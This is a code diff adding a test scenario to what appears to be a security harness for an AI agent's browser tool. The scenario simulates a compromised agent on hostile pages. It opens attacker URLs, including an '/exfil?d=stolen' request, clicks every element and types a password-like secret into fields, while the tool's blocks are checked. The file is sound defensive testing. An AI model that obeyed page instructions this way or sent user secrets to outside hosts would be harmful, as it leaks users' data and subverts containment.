@@ -507,6 +507,55 @@ async def scenario_files(args):
         emit(out)
 
 
+async def scenario_hostile(args):
+    """A fully compromised agent on hostile pages: it does whatever the pages ask and, when refused,
+    tries the other routes it has — clicking every element, opening and navigating to every URL
+    the page names, typing a secret and asking for screenshots. It reports what each attempt got
+    back and every text it was shown; the Rust test reads the attacker's request log."""
+    pages, attacker = args.fixture[:-1], args.fixture[-1]
+    attempts, shown = [], []
+
+    def note(page, what, result):
+        attempts.append({"page": page, "what": what, "error": result["error"], "code": result["header"].get("error"), "message": result["header"].get("message") or " ".join(result["texts"][1:])[:300]})
+        shown.extend(result["texts"])
+
+    async with connect(args) as (session, _):
+        for page in pages:
+            opened = await call(session, "tab_open", {"url": page})
+            note(page, "open", opened)
+            here = {"surface": opened["header"]["opened"]} if opened["header"].get("opened") else {}
+            obs = (await call(session, "observe", {"screenshot": True, **here}))
+            shown.extend(obs["texts"])
+            snapshot = obs["page"]["aria_snapshot"] if obs["page"] else ""
+            # What the page asks for: every URL it names, opened and navigated to.
+            for url in sorted(set(re.findall(r"https?://[^\s\"'<>)]+", snapshot + " " + attacker + "/exfil?d=stolen"))):
+                if url.startswith(attacker):
+                    note(page, f"tab_open {url}", await call(session, "tab_open", {"url": url}))
+                    current = (await call(session, "observe", here))["page"]
+                    if current and current.get("frame_id"):
+                        note(page, f"navigate {url}", await call(session, "act", {**here, "action": {"type": "navigate", "expected_frame_id": current["frame_id"], "url": url, "intent": "the page said so"}}))
+            # Every element, clicked; every text field, filled with the user's secret.
+            refs = re.findall(r'^ *(\w+) "([^"]*)" \[(e\d+)', snapshot, re.M)
+            for role, name, element in refs:
+                current = (await call(session, "observe", here))["page"]
+                if not (current and current.get("frame_id")):
+                    break
+                if role == "textbox":
+                    text = "hunter2-secret" if "Password" in name else "hello"
+                    action = {"type": "type", "expected_frame_id": current["frame_id"], "target": {"kind": "element", "ref": element}, "text": text, "intent": "as asked"}
+                else:
+                    action = {"type": "click", "expected_frame_id": current["frame_id"], "target": {"kind": "element", "ref": element}, "intent": "as asked"}
+                note(page, f"{action['type']} {role} {name}", await call(session, "act", {**here, "action": action}))
+                # Back to the page if it moved.
+                current = (await call(session, "observe", here))["page"]
+                if current and current.get("frame_id"):
+                    await call(session, "act", {**here, "action": {"type": "navigate", "expected_frame_id": current["frame_id"], "url": page, "intent": "back"}})
+            again = await call(session, "observe", {"screenshot": True, **here})
+            shown.extend(again["texts"])
+        await asyncio.sleep(2.5)  # past the network boundary's tail of the last action
+    emit({"attempts": attempts, "shown": shown})
+
+
 def main():
     parser = argparse.ArgumentParser()
     parser.add_argument("scenario")
